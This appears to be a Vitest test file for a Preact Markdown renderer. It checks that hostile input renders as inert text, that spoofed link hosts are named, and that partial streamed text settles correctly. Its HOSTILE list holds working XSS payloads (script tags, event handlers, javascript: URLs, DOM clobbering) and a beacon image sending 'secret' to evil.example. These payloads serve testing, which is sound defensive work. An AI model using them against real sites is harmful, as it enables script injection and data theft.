import { render } from "preact";
import { afterEach, describe, expect, it } from "vitest";
import { type Blocks, noBlocks, splitBlocks } from "./blocks.ts";
import { Markdown } from "./markdown.tsx";
import { settle } from "./settle.ts";

const host = document.createElement("div");
document.body.append(host);
afterEach(() => render(null, host));

function draw(text: string, live = false): HTMLElement {
  render(<Markdown text={text} live={live} />, host);
  return host;
}

/** Everything that may stand in a drawn text. */
const ELEMENTS = new Set(
  "DIV P A STRONG EM DEL CODE PRE FIGURE FIGCAPTION SPAN BUTTON SVG PATH UL OL LI INPUT BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD H3 H4 H5 H6".split(" "),
);
const ATTRIBUTES = new Set(
  "class href target rel title type disabled start tabindex role data-level data-align viewbox aria-hidden aria-label focusable d".split(" "),
);

const HOSTILE = [
  "<script>alert(1)</script>",
  "a <script src=//evil.example/x.js></script> b",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<form id=app><input name=body><input name=attributes></form>",
  "<div id=\"app\" name=\"location\">clobber</div>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
  "<!-- --><script>alert(1)</script><!-- -->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/x)",
  "[x](/demo/ws)",
  "[x](mailto:a@b.c)",
  "[x](blob:https://a/b)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](https://evil.example/beacon.png?d=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "![a][b]\n\n[b]: https://evil.example/b.png",
  "[x](https://good.example \"\\\" onmouseover=alert(1) x=\\\"\")",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\nx\n```",
  "| <img src=x onerror=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "# <b onclick=alert(1)>x</b>",
  "> <details open ontoggle=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
];

describe("hostile text", () => {
  for (const live of [false, true]) {
    it.each(HOSTILE)(`becomes text and nothing else${live ? ", while it streams" : ""}: %s`, (text) => {
      for (const end of live ? [...text].map((_, at) => at + 1) : [text.length]) {
        for (const element of draw(text.slice(0, end), live).querySelectorAll("*")) {
          expect(ELEMENTS).toContain(element.tagName.toUpperCase());
          for (const { name, value } of element.attributes) {
            expect(ATTRIBUTES, element.outerHTML).toContain(name.toLowerCase());
            if (name === "href") expect(value).toMatch(/^https?:\/\//);
          }
          if (element.tagName === "A") {
            expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow");
            expect(element.getAttribute("target")).toBe("_blank");
          }
        }
      }
    });
  }

  it("names the host where a link says another one", () => {
    expect(draw("[github.com/login](https://evil.example/login)").textContent).toContain("(evil.example)");
    expect(draw("[x](https://github.com@evil.example)").textContent).toContain("(evil.example)");
    expect(draw("[https://github.com/a](https://github.com/b)").textContent).toBe("https://github.com/a");
    expect(draw("[docs](https://example.com)").textContent).toBe("docs");
  });

  it("shows a picture as a link", () => {
    const link = draw("![a cat](https://example.com/cat.png)").querySelector("a");
    expect(link?.textContent).toBe("Image: a cat");
    expect(host.querySelector("img")).toBeNull();
  });

  it("is shown as it is where it is nested without end", () => {
    for (const text of [">".repeat(20_000), "- ".repeat(5_000), "*".repeat(20_000), "[".repeat(20_000), `${"**a ".repeat(3_000)}`, "![".repeat(5_000)]) {
      expect(draw(text).querySelectorAll("*").length).toBeLessThan(6_000);
    }
  });

  it("is not read as Markdown where it is larger than a page can draw", () => {
    const text = "**a** ".repeat(50_000);
    expect(draw(text).querySelectorAll("strong")).toHaveLength(0);
    expect(host.textContent).toContain("**a** **a**");
  });
});

describe("Markdown", () => {
  it("draws what people write", () => {
    draw("# One\n\na **b** *c* `d<e>` ~~f~~ &amp; &copy; &unknown; x<br>y\n\n1. x\n2. y\n   - [x] z\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```ts\nlet a;\n```\n\n[ref]\n\n[ref]: https://example.com/r");
    expect(host.querySelector("h3")?.textContent).toBe("One");
    expect(host.querySelector("p")?.textContent).toBe("a b c d<e> f & © &unknown; xy");
    expect(host.querySelectorAll("ol > li")).toHaveLength(2);
    expect(host.querySelector("li input")).toHaveProperty("checked", true);
    expect(host.querySelectorAll("td")[1]?.dataset.align).toBe("right");
    expect(host.querySelector("figcaption span")?.textContent).toBe("ts");
    expect(host.querySelector("pre")?.textContent).toBe("let a;");
    expect(host.querySelector("a")?.href).toBe("https://example.com/r");
  });

  const TEXT = "Intro with **bold** and `code`.\n\n- one\n- two\n\n  more of two\n\n1. a\n\n2. b\n\nSetext\n======\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```sh\necho hi\n\necho ho\n```\n\n> quote\n> more\n\n<div>\nraw\n</div>\n\nLast [link](https://example.com/a_b) and more.\n";

  it("is the same read piece by piece as read at once", () => {
    for (const size of [1, 2, 3, 7, 20]) {
      let blocks: Blocks = noBlocks;
      for (let end = size; end < TEXT.length + size; end += size) {
        blocks = splitBlocks(TEXT.slice(0, end), blocks);
      }
      const raw = (all: Blocks) => all.blocks.map(({ start, token }) => [start, token.type]);
      expect(raw(blocks)).toEqual(raw(splitBlocks(TEXT)));
    }
  });

  it("ends the same on the screen however it came", () => {
    const whole = draw(TEXT).innerHTML;
    render(null, host);
    for (let end = 1; end <= TEXT.length; end += 1) draw(TEXT.slice(0, end), true);
    expect(draw(TEXT).innerHTML).toBe(whole);
  });

  it("leaves the blocks before the last one alone while text comes", () => {
    draw("first\n\nsecond", true);
    const first = host.querySelector("p");
    const observer = new MutationObserver(() => {});
    observer.observe(first as Node, { childList: true, subtree: true, characterData: true });
    draw("first\n\nsecond and more", true);
    draw("first\n\nsecond and more\n\nthird", true);
    expect(observer.takeRecords()).toEqual([]);
    expect(host.querySelector("p")).toBe(first);
    expect(host.querySelectorAll("p")).toHaveLength(3);
  });
});

describe("the end of a text that is being written", () => {
  it.each([
    ["a\n`", "a\n"],
    ["a\n``", "a\n"],
    ["a\n-", "a\n"],
    ["a\n--", "a\n"],
    ["a\n2.", "a\n"],
    ["a\n##", "a\n"],
    ["a\n\n| x | y |", "a\n\n"],
    ["a\n\n| x | y |\n|--", "a\n\n"],
    ["a\n\n| x | y |\n|--|--|\n| 1", "a\n\n| x | y |\n|--|--|\n| 1"],
    ["see [the docs](https://exa", "see the docs"],
    ["see [the do", "see the do"],
    ["see [the docs]", "see the docs"],
    ["a **bo", "a **bo**"],
    ["a **bold*", "a **bold**"],
    ["a **bold**", "a **bold**"],
    ["a **", "a "],
    ["run `ls -", "run `ls -`"],
    ["```js\nlet a = [1", "```js\nlet a = [1"],
    ["```js\nlet a\n``", "```js\nlet a\n"],
    ["done.", "done."],
  ])("%j is shown as %j", (text, shown) => {
    expect(settle(text)).toBe(shown);
  });
});
